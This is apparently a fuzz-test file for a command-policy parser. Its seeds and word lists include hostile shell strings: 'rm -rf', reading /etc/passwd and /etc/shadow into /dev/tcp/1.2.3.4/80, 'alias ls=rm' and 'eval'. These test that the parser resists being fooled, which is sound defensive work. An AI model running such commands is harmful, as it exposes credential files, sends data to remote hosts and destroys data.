/** Policy files, command lines and globs. */
import { readdirSync, readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { ToolError } from '../../src/errors.ts';
import { PolicyError, parsePolicy } from '../../src/policy/load.ts';
import type { ParsedCommand } from '../../src/policy/question.ts';
import { parseCommand } from '../../src/policy/shell/command.ts';
import { matchGlob, parseGlob, toSegments } from '../../src/text/glob.ts';
import { holds, shapeOfMessage } from './outcome.ts';
import type { FuzzTarget } from './targets.ts';

const policies = new URL('../../policies/', import.meta.url);
const policyTexts = readdirSync(policies)
  .filter((it) => it.endsWith('.yaml'))
  .map((it) => readFileSync(new URL(it, policies), 'utf8'));

const CONTEXT = {
  workspace: '/ws',
  cwd: '/ws',
  home: '/home/person',
  resolve: (name: string) => (/^[\w.+-]+$/.test(name) ? `/usr/bin/${name}` : undefined),
};

const isKnown = ({ commands, unknown }: ParsedCommand): boolean =>
  unknown.length === 0 && commands.every((it) => it.unknown === undefined);

/** Whether a line after `text` is a line of its own: no here-document or backslash takes it. */
const endsItsLine = (text: string): boolean => !text.includes('<<') && !/\\\s*$/.test(text);

const SEPARATOR = '\n';
const GLOB_SPECIAL = /[*?[\]{},\\!]/g;

export const textTargets: Record<string, FuzzTarget> = {
  policy: {
    seeds: [
      ...policyTexts.map((it) => it.slice(0, 3000)),
      'version: 1\nrules:\n  - id: a\n    match: { command: "git *", not: { path: "**/.env" } }\n    decision: ask\n    reason: r\n    examples: { match: ["git push"], other: [ls] }\n',
      'version: 1\ntiers: { execute: { decision: allow, network: { allow: [a.org, "*.b.org:443"] } } }\n',
      'version: 1\nx: &a [1]\ny: [*a, *a]\n',
    ],
    words: [
      ...[
        'version: 1\n',
        'extends: default\n',
        'rules:',
        '- ',
        'match: ',
        'decision: deny',
        '&a ',
        '*a',
        '<<: ',
        '!!js ',
      ],
      ...['? ', '|\n', '>\n', '"', "'", '{', '}', '[', ']', '# ', '---\n', '%YAML', '\t', '\u2028', '\u202e', '\x1b['],
    ],
    run(input) {
      // A file that it extends would be read from this machine.
      const text = input.toString().replace(/extends/g, 'Extends');
      try {
        const { rules } = parsePolicy(text, 'fuzz.yaml');
        return `accepted ${Math.min(rules.length, 60)}`;
      } catch (error) {
        if (!(error instanceof PolicyError)) throw error;
        const { problems } = error;
        holds(problems.length > 0, 'a refusal has a reason');
        for (const it of problems) {
          holds(/^fuzz\.yaml:\d+:\d+: |^and \d+ more$/.test(it), `a problem has its place: ${JSON.stringify(it)}`);
          holds(!/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(it), `a problem can't control a terminal: ${JSON.stringify(it)}`);
        }
        return shapeOfMessage((problems[0] as string).replace(/^fuzz\.yaml:\d+:\d+: /, ''));
      }
    },
  },
  commands: {
    seeds: [
      'git status && ls -la | grep "a b" > out.txt 2>&1; cd x; rm -rf ./y',
      "FOO=bar env -i sh -c 'echo $HOME; $(cat f)' <<'E'\nbody\nE\nls",
      'for i in {1..3} a*; do echo "${i:-x}" `date`; done; f() { ls; }; f & case $x in a) ls;; esac',
      'if [[ -f a && b < c ]]; then ((x++)); fi; while read -r l; do :; done < <(sort a) | xargs -n1 rm',
      "ls $'a\\x41' ~/b /etc/{passwd,shadow} >| /dev/tcp/1.2.3.4/80 3<>f",
    ],
    words: [
      ...[
        '$(',
        ')',
        '`',
        '"',
        "'",
        "$'",
        '$((',
        '${',
        '}',
        '{',
        '<<E\n',
        '<<-',
        '<<<',
        '>&',
        '>|',
        '<(',
        '\\',
        '\n',
        ';',
      ],
      ...[
        '&&',
        '||',
        '|',
        '&',
        '#',
        '*',
        '?',
        '[',
        '~',
        '!',
        'if ',
        'fi',
        'do ',
        'done',
        'esac',
        'case x in ',
        'eval ',
      ],
      ...['sh -c ', 'env ', 'sudo ', 'cd x;', 'alias ls=rm', 'function f ', 'coproc ', 'time ', '\r', '\0', '\u00a0'],
    ],
    run(input) {
      const text = input.toString();
      const parsed = parseCommand(text, CONTEXT);
      holds(isDeepStrictEqual(parsed, parseCommand(text, CONTEXT)), 'a text reads the same each time');
      if (!isKnown(parsed)) return shapeOfMessage(parsed.unknown[0] ?? 'a command is unknown');
      if (endsItsLine(text)) {
        const more = parseCommand(`${text}\nrm fuzz-end`, CONTEXT);
        const isSeen = !isKnown(more) || more.commands.some(({ words }) => words.join(' ') === 'rm fuzz-end');
        holds(isSeen, 'no text that is read as known hides the line behind it');
      }
      return `known ${Math.min(parsed.commands.length, 8)} ${parsed.redirects.length > 0}`;
    },
  },
  globs: {
    seeds: [`**/*.{ts,js}${SEPARATOR}src/a.ts`, `[!a-z]?\\*/**/b${SEPARATOR}a/b`, `/x/{a,b{c,d}}${SEPARATOR}x/bc`],
    words: ['**', '*', '?', '[', ']', '[!', '{', '}', ',', '\\', '/', './', '{a,b}', '*'.repeat(20)],
    run(input) {
      const [pattern = '', path = ''] = input.toString().split(SEPARATOR, 2);
      const segments = toSegments(path);
      const clean = segments.join('/');
      if (clean !== '') {
        const literal = parseGlob(`/${clean.replace(GLOB_SPECIAL, '\\$&')}`);
        holds(matchGlob(literal, basename(clean), clean), 'a path with every sign escaped matches itself');
        holds(!matchGlob(literal, 'x', `${clean}/x`), 'a path with every sign escaped matches no other');
      }
      try {
        return `matches ${matchGlob(parseGlob(pattern), segments.at(-1) ?? '', clean)}`;
      } catch (error) {
        if (!(error instanceof ToolError) || error.code !== 'INPUT_INVALID') throw error;
        return error.message;
      }
    },
  },
};
